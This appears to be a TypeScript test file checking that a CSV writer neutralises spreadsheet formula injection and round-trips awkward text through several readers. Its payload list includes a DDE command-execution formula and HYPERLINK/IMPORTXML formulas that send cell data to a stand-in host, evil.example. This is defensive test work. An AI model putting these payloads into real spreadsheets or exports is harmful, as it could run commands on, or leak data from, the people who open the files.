import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { DuckDBInstance } from '@duckdb/node-api';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { z } from 'zod';
import { unguardFormula } from '#shared/formula-guard.ts';
import { columnsOf } from './columns.ts';
import { readCsv, writeCsv } from './csv.ts';
import { column } from './define-columns.ts';
import { plainCsv } from './testing/plain-csv.ts';

const columns = columnsOf(
  z.strictObject({
    place: column(z.int(), 'Place', { label: 'Place', role: 'count' }),
    words: column(z.string().min(1), 'Words', { label: 'Words', role: 'name' }),
    more: column(z.string().nullable(), 'More', { label: 'More', role: 'name', missing: 'nothing' }),
  }),
);

/** Text that a spreadsheet may run. */
const formulas = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '|calc',
  '%0A=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '"=1+1"',
  "'=1+1",
  '\ufeff=1+1',
  '\u200b=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff20SUM(1)',
];

/** Text that a reader of CSV may take apart, or change. */
const awkward = [
  'a,b',
  'a;b',
  'a\tb',
  '"',
  '""',
  'say "it"',
  '","',
  'a\nb',
  'a\r\nb',
  'a\rb',
  '\n',
  ' leading',
  'trailing ',
  "it's",
  "''",
  '\\',
  '\\"',
  '\\n',
  '\\N',
  'NULL',
  'null',
  'NA',
  'NaN',
  'true',
  '1e5',
  '0012',
  '1,234.5',
  '2026-11-29',
  '\ufeffbom',
  'e\u0301 \u00e9',
  '日本語',
  'مرحبا',
  '\u202egnp.exe',
  '👩‍👩‍👧‍👦',
  '𝒳',
  '\u0001\u001f\u007f',
  '\u2028\u2029',
  '#comment',
  '<b>&amp;</b>',
  'x'.repeat(9_000),
];

const payloads = [...formulas, ...awkward];
const rows = payloads.map((words, place) => ({ place, words, more: place % 3 === 0 ? null : words }));
const file = writeCsv(rows, columns);
let folder: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'daylight-csv-'));
  await writeFile(join(folder, 'table.csv'), file);
});
afterAll(() => rm(folder, { recursive: true, force: true }));

/** What stands in the file, with the apostrophes before formulas taken away as every codebook says. */
const asWritten = (cells: readonly (string | null)[][]) =>
  cells.map(([place, words, more]) => ({
    place: Number(place),
    words: unguardFormula(words ?? ''),
    more: more === null || more === '' ? null : unguardFormula(more ?? ''),
  }));

test('the table holds more than 60 payloads, none of which is NUL', () => {
  expect(payloads.length).toBeGreaterThan(60);
  expect(payloads.join('')).not.toContain('\0');
  expect(new Set(payloads).size).toBe(payloads.length);
});

test('our own reader gives back what was written', () => {
  expect(readCsv(file, columns)).toEqual(rows);
});

test('a plain reader gives back what was written', () => {
  const [header, ...cells] = plainCsv(file);
  expect(header).toEqual(['place', 'words', 'more']);
  expect(asWritten(cells)).toEqual(rows);
});

test('no cell begins as a spreadsheet would run it', () => {
  for (const [, words = ''] of plainCsv(file).slice(1))
    expect(words).not.toMatch(/^[\s"\u200b\ufeff]*[=+\-@|%\uff1d\uff0b\uff0d\uff20]/);
});

// By bytes: the binding for Node takes a byte order mark at the start of a text away.
test('DuckDB reads the same rows', async () => {
  const instance = await DuckDBInstance.create(':memory:');
  const connection = await instance.connect();
  const read = await connection.runAndReadAll(
    `select hex(place), hex(words), hex(more) from read_csv('${join(folder, 'table.csv')}', header = true, all_varchar = true, delim = ',', quote = '"', escape = '"')`,
  );
  const cells = read
    .getRows()
    .map((row) =>
      row.map((cell) => (cell === null ? null : Buffer.from(String(cell), 'hex').toString('utf8'))),
    );
  connection.closeSync();
  instance.closeSync();
  expect(asWritten(cells)).toEqual(rows);
});

test('the reader that comes with Python reads the same rows', async () => {
  const script =
    'import csv, json, sys; sys.stdout.reconfigure(encoding="utf-8"); print(json.dumps(list(csv.reader(open(sys.argv[1], encoding="utf-8", newline="")))))';
  const read = await promisify(execFile)('python3', ['-c', script, join(folder, 'table.csv')]).catch(
    (error: NodeJS.ErrnoException) => {
      if (error.code === 'ENOENT') return undefined;
      throw error;
    },
  );
  if (read === undefined) {
    process.stderr.write('NOT TESTED: that Python reads our CSV: python3 is not here\n');
    return;
  }
  const [, ...cells] = z.array(z.array(z.string())).parse(JSON.parse(read.stdout));
  expect(asWritten(cells)).toEqual(rows);
});
